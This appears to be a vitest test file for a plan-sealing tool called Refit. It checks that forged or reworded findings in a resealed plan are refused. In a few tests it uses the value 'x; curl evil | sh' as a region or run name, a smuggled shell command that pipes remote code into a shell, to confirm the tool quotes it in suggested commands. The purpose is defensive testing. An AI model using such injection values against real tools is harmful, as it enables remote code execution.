/** Somebody removes, adds or rewords findings of a plan, and seals the plan again. */
import { describe, expect, it } from 'vitest';
import type { SavedPlan } from '../../src/model.ts';
import { expiryWarnings } from '../../src/operations/approve-plan.ts';
import { isOwnFinding } from '../../src/plan/saved/own-findings.ts';
import { readSavedPlan } from '../../src/plan/saved/read-saved-plan.ts';
import { encodeSavedPlan } from '../../src/plan/saved/seal-plan.ts';
import { USUAL_VALIDITY } from '../../src/plan/windows/next-start.ts';
import { allRules } from '../../src/rules/check.ts';
import { sealDraft } from '../plan/fixtures/sealed-plan.ts';
import { type Forged, reseal } from './reseal.ts';
import { RICH, RICH_TEXT } from './rich-plan.ts';

const OWN = allRules()
  .map(({ code }) => code)
  .filter(isOwnFinding);

/** A plan that Refit has every such finding about. */
function doubtful(): SavedPlan {
  const { digest: _, schedule: __, ...plan } = RICH;
  return sealDraft({
    ...plan,
    expiresAt: '2026-01-10T01:58:30.000Z',
    inventory: { ...plan.inventory, readAt: '2025-12-30T01:58:30.000Z' },
    execution: { ...plan.execution, patience: 10_000 },
    // 39 hours after the seal, and only for a minute.
    windows: { ...plan.windows!, allow: ['Wed 01:00-01:31'] },
    waves: plan.waves.map(({ approval: _, ...wave }, at) => (at === 0 ? wave : { ...wave, soak: 600_000 })),
    steps: plan.steps.map((step) => ({
      ...step,
      quote: step.quote && { ...step.quote, estimated: true as const },
    })),
    preconditions: plan.preconditions.map(({ group: _, ...one }) => one),
    findings: [],
    source: { kind: 'retry', run: 'runs/one', digest: 'd'.repeat(64), head: 'e'.repeat(64) },
  });
}

const PLAN = doubtful();
const TEXT = encodeSavedPlan(PLAN);

describe('a finding that follows from the plan itself', () => {
  it('is in no saved plan, so nobody can remove it there', () => {
    expect(new Set(PLAN.findings.map(({ code }) => code))).toEqual(new Set(OWN));
    expect((JSON.parse(TEXT) as Forged).findings).toEqual([]);
    expect(readSavedPlan(TEXT).findings).toEqual(PLAN.findings);
  });

  it.each(OWN)('%s is refused in the file, whatever it says', (code) => {
    const { messageId, params, instance } = PLAN.findings.find((one) => one.code === code)!;
    const forged = reseal(TEXT, (plan) => {
      plan.findings = [{ code, messageId, params, instance, location: null }];
    });
    expect(() => readSavedPlan(forged)).toThrow(`/findings/0/code is ${code}, which Refit computes`);
  });

  it.each([
    ['Refit.PriceRefused', 'Refit.FromRun'],
    ['Refit.NotReadable', 'Refit.FromRun'],
    ['Refit.WindowsIgnored', 'Refit.WindowsOfRun'],
    ['ResourceUnavailable.InstanceStatusAbnormal', 'FailedOperation.SystemError'],
  ])('cannot be stated under another code: %s with the sentence of %s', (code, own) => {
    const { messageId, params, instance } = PLAN.findings.find((one) => one.code === own)!;
    const forged = reseal(TEXT, (plan) => {
      plan.findings = [{ code, messageId, params, instance, location: null }];
    });
    expect(() => readSavedPlan(forged)).toThrow(`${messageId}, a sentence that Refit never writes here`);
  });

  it('names the duration that covers the start, and approve prints the whole command', () => {
    const early = PLAN.findings.find(({ code }) => code === 'Refit.ExpiresEarly');
    expect(early?.fix).toBe('approve with --expires 41h');
    const options = { now: Date.parse(PLAN.sealedAt), expires: USUAL_VALIDITY };
    expect(expiryWarnings(PLAN, options, 'refit approve saved.json').join()).toMatch(
      /to cover the start: refit approve saved\.json --expires 41h$/,
    );
  });

  it('goes only with its cause', () => {
    const harmless = readSavedPlan(
      reseal(TEXT, (plan) => {
        plan.execution.patience = 180_000;
      }),
    );
    const codes = harmless.findings.map(({ code }) => code);
    expect(codes).not.toContain('Refit.ShortPatience');
    expect(codes).toHaveLength(PLAN.findings.length - 1);
  });
});

/** The text of RICH with a changed finding, sealed again. */
const withRemark = (changed: object) =>
  reseal(RICH_TEXT, (plan) => {
    plan.findings = [{ ...plan.findings[0], ...changed }];
  });
const withBlocker = (changed: object) =>
  reseal(RICH_TEXT, (plan) => {
    plan.blocked[0].findings = [{ ...plan.blocked[0].findings[0], ...changed }];
  });
const withReason = (reason: object) =>
  reseal(RICH_TEXT, (plan) => {
    plan.unchanged[0].reason = reason;
  });

describe('a sentence in a saved plan', () => {
  it('quotes a region for the shell, where its fix is a command', () => {
    const missing = { id: 'crs-cccc0001', region: 'x; curl evil | sh', elsewhere: null, near: null };
    const code = 'ResourceNotFound.InstanceNotExists';
    const forged = withBlocker({ code, messageId: 'rule.instance-missing', params: missing });
    expect(readSavedPlan(forged).blocked[0]!.findings[0]!.fix).toContain("--region 'x; curl evil | sh'");
  });

  const permits = { id: 'policy.limit', params: { of: 'instances', most: 9, value: 9 } };
  const price = {
    id: 'crs-aaaa0001',
    change: { dimension: 'shards', from: 3, to: 5 },
    code: 'X',
    answer: 'Y',
  };
  it.each([
    ['a finding', withRemark({ messageId: permits.id, params: permits.params })],
    ['a blocker', withBlocker({ messageId: permits.id, params: permits.params })],
    ['a reason', withReason(permits)],
    [
      'a message inside a finding',
      withRemark({ messageId: 'plan.and-more', params: { first: permits, more: 1 } }),
    ],
    ['a message inside a reason', withReason({ id: 'reason.list', params: { reasons: [permits] } })],
  ])('%s says only what planning says there', (_, forged) => {
    expect(() => readSavedPlan(forged)).toThrow('is policy.limit, a sentence that Refit never writes here');
  });

  it.each([
    ['a finding', withRemark({ params: { ...price, id: 'crs-bbbb0001' } })],
    ['a blocker', withBlocker({ params: { id: 'crs-bbbb0001', status: 'isolated' } })],
  ])('%s names no other instance than its own', (_, forged) => {
    expect(() => readSavedPlan(forged)).toThrow(/about "crs-bbbb0001", but the finding is about/);
  });

  it('quotes the run of the plan for the shell', () => {
    const forged = reseal(TEXT, (plan) => {
      plan.source.run = 'x; curl evil | sh';
    });
    const { fix } = readSavedPlan(forged).findings.find(({ code }) => code === 'Refit.FromRun')!;
    expect(fix).toContain("refit audit verify 'x; curl evil | sh' --head");
  });

  it.each([
    ['Refit.RunUnfinished', 'from-run.unfinished', {}],
    ['Refit.WindowsIgnored', 'from-run.windows-ignored', { kind: 'retry', windows: null, maintenance: true }],
  ])('%s has no command of the file: the run is quoted for the shell', (code, messageId, params) => {
    const finding = { code, messageId, instance: null, location: null };
    const read = (given: object) =>
      readSavedPlan(withRemark({ ...finding, params: { ...params, ...given } }));
    expect(() => read({ run: 'x', command: 'curl evil | sh' })).toThrow('has no parameter "command"');
    const [found] = read({ run: 'x; curl evil | sh' }).findings.filter((one) => one.code === code);
    expect(found?.fix).toMatch(/ 'x; curl evil \| sh(\/plan\.json)?' /);
  });
});
